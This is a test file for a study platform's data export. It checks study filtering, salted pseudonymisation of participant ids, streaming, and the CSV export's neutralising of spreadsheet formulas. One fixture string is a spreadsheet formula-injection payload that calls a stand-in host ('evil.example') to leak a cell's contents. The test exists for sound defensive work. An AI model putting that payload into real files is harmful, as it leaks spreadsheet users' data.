import { createHmac } from 'node:crypto';
import { EXPORT_CSV_COLUMNS, EXPORT_SCHEMA_VERSION, exportRecordSchema, type ExportConversationRecord, type ExportParticipantRecord, type ExportRecord } from '@parley/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient, type TestSocket } from '../../testing/clients.ts';
import { arrive, openSocket, type Arrival } from '../../study/testing/participants.ts';
import { startStudyServer, type StudyServer } from '../../study/testing/study-server.ts';
import { hashPassword } from '../password-hash.ts';
import { parseCsv } from '../testing/parse-csv.ts';
import { writeExport } from './export-stream.ts';
import { createPseudonymizer } from './pseudonymize.ts';

const SALT = 'a-salt-that-is-long-enough-0123456789';
const ECHO = { provider: 'echo', echoDelayMs: 0 };
const STUDY_A = { id: 'study-a', conditions: { control: {}, treatment: { systemPrompt: 'Be kind.' } } };
const STUDY_B = { id: 'study-b' };
/** What participants type in a study: every character a CSV or a spreadsheet might trip on. */
const HOSTILE = [
  'Hello, "world"\nsecond line, with a comma',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '+1 and -1 are numbers',
  '-2+3',
  '@SUM(A1:A9)',
  '\tstarts with a tab',
  'ünïcödé, emoji 🎉, and a quote: "',
  '  spaces around  ',
];

let server: StudyServer;
let researcher: ReturnType<typeof apiClient>;
const sockets: TestSocket[] = [];
/** What each participant sent and was sent, keyed by chat: the ground truth of the round trip. */
const said = new Map<string, { participant: Arrival; contents: string[] }>();
let studyBChat = '';

async function converse(p: Arrival, contents: string[]): Promise<string> {
  const chat = (await p.api('POST', '/api/chats')).body.chat;
  const socket = await openSocket(server.wsUrl, p.token, sockets);
  const transcript: string[] = [];
  for (const [i, content] of contents.entries()) {
    socket.send({ type: 'send', chatId: chat.id, clientMsgId: `m${i}`, content });
    await socket.next('ack');
    transcript.push(content, (await socket.next('agent.done')).message.content);
  }
  said.set(chat.id, { participant: p, contents: transcript });
  return chat.id;
}

const exportText = async (query: string) => {
  const res = await fetch(`${server.url}/api/research/export?${query}`, { headers: { authorization: (researcher as unknown as { auth: string }).auth } });
  expect(res.status).toBe(200);
  return { text: await res.text(), headers: res.headers };
};
const records = (text: string): ExportRecord[] =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => exportRecordSchema.parse(JSON.parse(line)));
const conversations = (list: ExportRecord[]) => list.filter((r): r is ExportConversationRecord => r.record === 'conversation');
const participants = (list: ExportRecord[]) => list.filter((r): r is ExportParticipantRecord => r.record === 'participant');

beforeAll(async () => {
  server = await startStudyServer({
    agent: ECHO,
    study: STUDY_A,
    env: { RESEARCHER_PASSWORD_HASH: await hashPassword('pw', { N: 1024, r: 8, p: 1 }), EXPORT_SALT: SALT },
  });
  const token = (await apiClient(server.url)('POST', '/api/research/login', { password: 'pw' })).body.token;
  researcher = Object.assign(apiClient(server.url, token), { auth: `Bearer ${token}` });

  const p1 = await arrive(server.url, { PROLIFIC_PID: 'prolific-pid-one', STUDY_ID: 'prolific-study', SESSION_ID: 'session-one' });
  const p2 = await arrive(server.url, { PROLIFIC_PID: 'prolific-pid-two' });
  const first = await converse(p1, HOSTILE.slice(0, 4));
  await converse(p2, HOSTILE.slice(4));
  const reply = (await p1.api('GET', `/api/chats/${first}`)).body.messages[1];
  await p1.api('PUT', `/api/messages/${reply.id}/feedback`, { rating: 'down', comment: '=1+1, "quoted"\nand a new line' });
  await p1.api('PUT', `/api/messages/${reply.id}/feedback`, { rating: 'up' });
  await p1.api('POST', '/api/telemetry', { events: [{ kind: 'paste', clientTime: '2026-01-01T00:00:00.000Z', chatId: first, length: 42 }, { kind: 'visibility', clientTime: '2026-01-01T00:00:01.000Z', state: 'hidden' }] });

  await server.writeSettings({ agent: ECHO, study: STUDY_B });
  const p3 = await arrive(server.url, { PROLIFIC_PID: 'prolific-pid-three' });
  studyBChat = await converse(p3, ['study B secret']);
}, 60_000);

afterAll(async () => {
  sockets.splice(0).forEach((s) => s.close());
  await server?.close();
});

describe('the JSONL export', () => {
  it('holds exactly what was said in the study asked for, and nothing from another study', async () => {
    const { text, headers } = await exportText('study=study-a');
    expect(headers.get('content-type')).toMatch(/application\/x-ndjson/);
    expect(headers.get('content-disposition')).toMatch(/attachment; filename="parley-study-a-.*\.jsonl"/);
    expect(text).not.toContain('study B secret');
    expect(text).not.toContain('prolific-pid-three');
    const all = records(text);
    expect(all.every((r) => r.schemaVersion === EXPORT_SCHEMA_VERSION)).toBe(true);
    expect(participants(all).map((p) => p.participantId).sort()).toEqual(['prolific-pid-one', 'prolific-pid-two']);
    const convs = conversations(all);
    expect(convs).toHaveLength(2);
    for (const conversation of convs) {
      const truth = said.get(conversation.chatId)!;
      expect(conversation.studyId).toBe('study-a');
      expect(conversation.participantId).toBe(truth.participant.user.username);
      expect(conversation.messages.map((m) => m.content)).toEqual(truth.contents);
      expect(conversation.messages.map((m) => m.role)).toEqual(truth.contents.map((_, i) => (i % 2 === 0 ? 'user' : 'assistant')));
      // Every reply carries the participant's condition, the same as the conversation's.
      expect(['control', 'treatment']).toContain(conversation.condition);
      for (const m of conversation.messages.filter((m) => m.role === 'assistant')) {
        expect(m.condition).toBe(conversation.condition);
        expect(m.agent).toMatchObject({ provider: 'echo', settings: { systemPrompt: conversation.condition === 'treatment' ? 'Be kind.' : 'You are a helpful assistant.' } });
      }
    }
  });

  it('carries the feedback history, the events and the study-link ids', async () => {
    const all = records((await exportText('study=study-a')).text);
    const one = participants(all).find((p) => p.participantId === 'prolific-pid-one')!;
    expect(one).toMatchObject({ prolificPid: 'prolific-pid-one', externalStudyId: 'prolific-study', externalSessionId: 'session-one', consent: { status: 'not_required' } });
    expect(one.events.map((e) => e.kind)).toEqual(['login', 'visibility']);
    const conversation = conversations(all).find((c) => c.participantId === 'prolific-pid-one')!;
    expect(conversation.events).toEqual([expect.objectContaining({ kind: 'paste', source: 'client', clientTime: '2026-01-01T00:00:00.000Z', data: { length: 42 } })]);
    const rated = conversation.messages[1]!.feedback;
    expect(rated.history.map((f) => [f.rating, f.comment])).toEqual([
      ['down', '=1+1, "quoted"\nand a new line'],
      ['up', '=1+1, "quoted"\nand a new line'],
    ]);
    expect(rated.current).toEqual(rated.history[1]);
  });

  it('filters by study, condition and date', async () => {
    const b = records((await exportText('study=study-b')).text);
    expect(conversations(b).map((c) => c.chatId)).toEqual([studyBChat]);
    const everything = conversations(records((await exportText('')).text));
    expect(everything.map((c) => c.chatId).sort()).toEqual([...said.keys()].sort());
    const a = conversations(records((await exportText('study=study-a')).text));
    for (const condition of ['control', 'treatment']) {
      const only = conversations(records((await exportText(`study=study-a&condition=${condition}`)).text));
      expect(only.map((c) => c.chatId)).toEqual(a.filter((c) => c.condition === condition).map((c) => c.chatId));
    }
    expect(records((await exportText('from=2999-01-01')).text)).toEqual([]);
    expect(conversations(records((await exportText('to=2000-01-01T00:00:00Z')).text))).toEqual([]);
    const bad = await researcher('GET', '/api/research/export?from=yesterday');
    expect(bad.status).toBe(400);
    expect((await researcher('GET', '/api/research/export?format=xlsx')).status).toBe(400);
  });

  it('pseudonymises participant ids with the salt: stable across exports, and no raw id left', async () => {
    const first = await exportText('study=study-a&pseudonymize=1');
    const second = await exportText('study=study-a&pseudonymize=1');
    expect(first.headers.get('x-export-pseudonyms')).toBe('salted');
    expect(first.text).toBe(second.text);
    for (const raw of ['prolific-pid-one', 'prolific-pid-two', 'session-one']) expect(first.text).not.toContain(raw);
    const expected = createHmac('sha256', SALT).update('prolific-pid-one').digest('hex').slice(0, 32);
    const all = records(first.text);
    expect(participants(all).map((p) => p.participantId)).toContain(expected);
    expect(all.every((r) => r.pseudonymized)).toBe(true);
    const one = participants(all).find((p) => p.participantId === expected)!;
    expect(one.prolificPid).toBe(expected);
    expect(one.externalStudyId).toBe('prolific-study');
  });

  it('gives unlinkable pseudonyms without a salt (a new random key per export)', async () => {
    const once = async () => {
      let text = '';
      await writeExport(server.server.database.prisma, { format: 'jsonl', filters: { study: 'study-a' }, pseudo: createPseudonymizer(true, null) }, { write: async (chunk) => void (text += chunk) });
      return participants(records(text)).map((p) => p.participantId).sort();
    };
    const [a, b] = [await once(), await once()];
    expect(a).toHaveLength(2);
    expect(a).not.toEqual(b);
    expect(a).not.toContain(createHmac('sha256', SALT).update('prolific-pid-one').digest('hex').slice(0, 32));
  });

  it('streams page by page: small pages give the same records in several writes', async () => {
    const run = async (pageSize: number) => {
      const chunks: string[] = [];
      const counts = await writeExport(server.server.database.prisma, { format: 'jsonl', filters: {}, pseudo: createPseudonymizer(false, null), pageSize }, { write: async (chunk) => void chunks.push(chunk) });
      return { chunks, counts };
    };
    const small = await run(1);
    const large = await run(500);
    expect(small.chunks.join('')).toBe(large.chunks.join(''));
    expect(small.counts).toEqual({ participants: 3, conversations: 3, messages: 2 * (HOSTILE.length + 1) });
    expect(small.chunks.length).toBe(6);
    expect(large.chunks.length).toBe(2);
  });
});

describe('the CSV export', () => {
  it('has one row per message, and reads back exactly, formulas neutralised', async () => {
    const { text, headers } = await exportText('format=csv&study=study-a');
    expect(headers.get('content-type')).toMatch(/text\/csv/);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...EXPORT_CSV_COLUMNS]);
    const column = (name: (typeof EXPORT_CSV_COLUMNS)[number]) => EXPORT_CSV_COLUMNS.indexOf(name);
    const expected = [...said.entries()].filter(([chatId]) => chatId !== studyBChat).flatMap(([chatId, truth]) => truth.contents.map((content) => [chatId, content]));
    expect(rows).toHaveLength(expected.length);
    const neutralised = (content: string) => (/^[=+\-@\t\r]/.test(content) ? `'${content}` : content);
    expect(rows.map((r) => [r[column('chatId')], r[column('content')]]).sort()).toEqual(expected.map(([chatId, content]) => [chatId, neutralised(content!)]).sort());
    for (const row of rows) {
      expect(row).toHaveLength(EXPORT_CSV_COLUMNS.length);
      expect(row[column('schemaVersion')]).toBe(String(EXPORT_SCHEMA_VERSION));
      expect(row[column('studyId')]).toBe('study-a');
    }
    const rated = rows.find((r) => r[column('feedbackChanges')] === '2')!;
    expect(rated[column('feedbackRating')]).toBe('up');
    expect(rated[column('feedbackComment')]).toBe(`'=1+1, "quoted"\nand a new line`);
    // No cell a spreadsheet would evaluate.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});

describe("a participant's events across two studies", () => {
  it("go to the study they happened in: none in an earlier study's conversation, none lost", async () => {
    const own = await startStudyServer({ agent: ECHO, study: { id: 'first' } });
    try {
      const prisma = own.server.database.prisma;
      const exported = async (study?: string) => {
        let text = '';
        await writeExport(prisma, { format: 'jsonl', filters: study ? { study } : {}, pseudo: createPseudonymizer(false, null) }, { write: async (chunk) => void (text += chunk) });
        return records(text);
      };
      const p = await arrive(own.url, 'twice');
      const oldChat = (await p.api('POST', '/api/chats')).body.chat.id as string;
      expect((await p.api('POST', `/api/chats/${oldChat}/messages`, { clientMsgId: 'm1', content: 'in the first study' })).status).toBe(201);
      await p.api('POST', '/api/telemetry', { events: [{ kind: 'paste', clientTime: '2026-01-01T00:00:00.000Z', chatId: oldChat, length: 1 }] });

      await own.writeSettings({ agent: ECHO, study: { id: 'second' } });
      // The first study's chat is still open in the browser while the second study runs.
      await p.api('POST', '/api/telemetry', { events: [{ kind: 'visibility', clientTime: '2026-01-02T00:00:00.000Z', chatId: oldChat, state: 'hidden' }] });
      const second = await prisma.participant.findUniqueOrThrow({ where: { studyId_userId: { studyId: 'second', userId: p.user.id } } });
      // As stored before events were checked against the chat's study: the second participation with the first study's chat.
      await prisma.participantEvent.create({
        data: { userId: p.user.id, participantId: second.id, chatId: oldChat, kind: 'visibility', source: 'client', clientTime: new Date('2026-01-02T00:00:01.000Z'), serverTime: new Date(), data: '{"state":"visible"}' },
      });
      const newChat = (await p.api('POST', '/api/chats')).body.chat.id as string;
      expect((await p.api('POST', `/api/chats/${newChat}/messages`, { clientMsgId: 'm2', content: 'in the second study' })).status).toBe(201);

      const first = await exported('first');
      expect(conversations(first).map((c) => [c.chatId, c.events.map((e) => e.kind)])).toEqual([[oldChat, ['paste']]]);
      const later = await exported('second');
      expect(participants(later).map((r) => r.events.map((e) => [e.kind, e.clientTime]))).toEqual([
        [
          ['visibility', '2026-01-02T00:00:00.000Z'],
          ['visibility', '2026-01-02T00:00:01.000Z'],
        ],
      ]);
      expect(conversations(later).map((c) => [c.chatId, c.events])).toEqual([[newChat, []]]);
      // Each event once in the whole export.
      const all = await exported();
      expect([...participants(all), ...conversations(all)].flatMap((r) => r.events.map((e) => e.clientTime)).sort()).toEqual([
        '2026-01-01T00:00:00.000Z',
        '2026-01-02T00:00:00.000Z',
        '2026-01-02T00:00:01.000Z',
      ]);
    } finally {
      await own.close();
    }
  }, 30_000);
});
